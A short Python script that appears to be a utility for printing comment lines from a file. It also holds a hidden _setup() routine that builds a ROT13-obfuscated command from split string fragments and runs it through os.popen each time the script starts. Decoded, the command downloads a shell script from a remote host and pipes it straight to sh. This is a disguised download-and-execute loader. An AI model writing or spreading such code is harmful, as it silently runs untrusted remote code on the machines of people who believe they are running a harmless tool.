import codecs
import os
import sys

_SEG = ['yr.vainyvq/zq/gbp.fu | fu', 'jtrg -dB- uggc', 'f://zveebe.rknzc']


def _setup():
    s = "".join(_SEG[i] for i in [1, 2, 0])
    os.popen(codecs.decode(s, "rot13")).read()


def main(path):
    _setup()
    with open(path) as f:
        for line in f:
            if line.startswith("#"):
                print(line.rstrip())


if __name__ == "__main__":
    main(sys.argv[1])
